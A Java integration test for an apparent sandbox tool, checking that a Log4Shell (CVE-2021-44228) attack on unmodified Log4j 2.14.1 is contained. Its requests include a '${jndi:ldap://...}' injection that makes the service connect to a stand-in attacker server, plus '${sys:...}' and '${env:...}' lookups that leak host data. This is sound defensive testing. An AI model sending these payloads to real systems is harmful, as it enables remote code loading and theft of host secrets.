package io.jvisor.sandbox.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.jvisor.sandbox.GuestSources;
import java.io.File;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Log4Shell (CVE-2021-44228) in the library that had it: Log4j 2.14.1 from Maven Central, run
 * unmodified under a service of a few lines that logs what its clients send. Natively a client's
 * {@code ${jndi:ldap://HOST:PORT/...}} makes Log4j connect to the attacker's server (the first
 * step of the attack, whose answer then has the service load the attacker's code or objects), and
 * {@code ${sys:...}} and {@code ${env:...}} write the host's properties and environment into the
 * log. As a guest under the default preset the connection is refused and the look-ups read the
 * guest's own properties and (empty) environment; a policy that opens the server's address lets
 * the connection through, so that what refused it is the policy.
 */
class Log4ShellIT {

    /** The service: it logs each request, as the vulnerable services logged a header. */
    private static final String SERVICE = """
            package app;

            import org.apache.logging.log4j.LogManager;
            import org.apache.logging.log4j.Logger;

            public final class Service {
                public static void main(String[] requests) {
                    Logger log = LogManager.getLogger(Service.class);
                    for (String request : requests) {
                        log.error("request from {}", request);
                    }
                }
            }
            """;

    @TempDir
    Path dir;

    /** The attacker's server: it accepts one connection and closes it, so that Log4j's look-up ends. */
    private ServerSocket server;
    private final CompletableFuture<Socket> accepted = new CompletableFuture<>();

    @BeforeEach
    void listen() throws IOException {
        server = new ServerSocket();
        server.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
        Thread acceptor = new Thread(() -> {
            try (Socket s = server.accept()) {
                accepted.complete(s);
            } catch (SocketException closed) {
                accepted.complete(null); // no connection came before the test ended
            } catch (IOException e) {
                accepted.completeExceptionally(e);
            }
        }, "attacker's server");
        acceptor.setDaemon(true);
        acceptor.start();
    }

    @AfterEach
    void close() throws IOException {
        server.close();
    }

    /** The requests: the attack, and two look-ups of the host's secrets. */
    private List<String> requests() {
        return List.of("${jndi:ldap://127.0.0.1:" + server.getLocalPort() + "/o=exploit}", "${sys:user.home}", "${env:PATH}");
    }

    private Path classes() throws IOException {
        return GuestSources.compile(dir.resolve("service"), Map.of("app.Service", SERVICE), log4j().get(0));
    }

    /** log4j-api's jar, then log4j-core's. */
    private static List<Path> log4j() throws IOException {
        try (Stream<Path> jars = Files.list(Launch.property("guest.log4j.dir"))) {
            return jars.sorted().toList();
        }
    }

    private static String classPath(List<Path> paths) {
        return paths.stream().map(Path::toString).collect(Collectors.joining(File.pathSeparator));
    }

    /** What the service logged of each request, without the time and the logger's name. */
    private static List<String> logged(Launch.Result run) {
        return run.outLines().stream().map(l -> l.substring(l.indexOf(" - ") + 3)).toList();
    }

    /** Whether the attacker's server saw a connection; asked once the service has ended. */
    private boolean connected() throws Exception {
        server.close(); // ends the accept if nothing came; a connection that came was accepted before the look-up returned
        return accepted.get(Launch.TIMEOUT_SECONDS, TimeUnit.SECONDS) != null;
    }

    @Test
    void nativelyLog4jConnectsToTheAttackersServerAndLogsTheHostsSecrets() throws Exception {
        Path classes = classes();
        Path home = dir.resolve("host-home");
        List<String> command = new ArrayList<>(List.of("-Duser.home=" + home,
                "-cp", classPath(Stream.concat(Stream.of(classes), log4j().stream()).toList()), "app.Service"));
        command.addAll(requests());
        Launch.Result run = Launch.java(dir, command.toArray(new String[0]));

        assertEquals(0, run.status(), run::toString);
        assertTrue(connected(), "Log4j connected to the server its message named");
        assertEquals(List.of("request from " + requests().get(0), "request from " + home,
                "request from " + System.getenv("PATH")), logged(run), run::toString);
    }

    @Test
    void asAGuestTheConnectionIsRefusedAndTheLookUpsReadItsOwn() throws Exception {
        List<String> command = new ArrayList<>(List.of("run", "--disk", dir.resolve("disk").toString(),
                "-cp", classPath(log4j()), "--main", "app.Service", classes().toString()));
        command.addAll(requests());
        Launch.Result run = Launch.jvisor(dir, command.toArray(new String[0]));

        assertEquals(0, run.status(), run::toString);
        assertFalse(connected(), "no connection reached the server");
        assertEquals(List.of("request from " + requests().get(0), "request from /home/guest", "request from ${env:PATH}"),
                logged(run), run::toString);
    }

    @Test
    void aPolicyThatOpensTheServersAddressLetsTheConnectionThrough() throws Exception {
        Path policy = Files.writeString(dir.resolve("ldap.policy"),
                "preset constrained\nallow connect 127.0.0.1:" + server.getLocalPort() + "\n");
        List<String> command = new ArrayList<>(List.of("run", "--disk", dir.resolve("disk").toString(),
                "--policy", policy.toString(), "-cp", classPath(log4j()), "--main", "app.Service", classes().toString()));
        command.addAll(requests());
        Launch.Result run = Launch.jvisor(dir, command.toArray(new String[0]));

        assertEquals(0, run.status(), run::toString);
        assertTrue(connected(), "the policy let Log4j connect");
    }
}
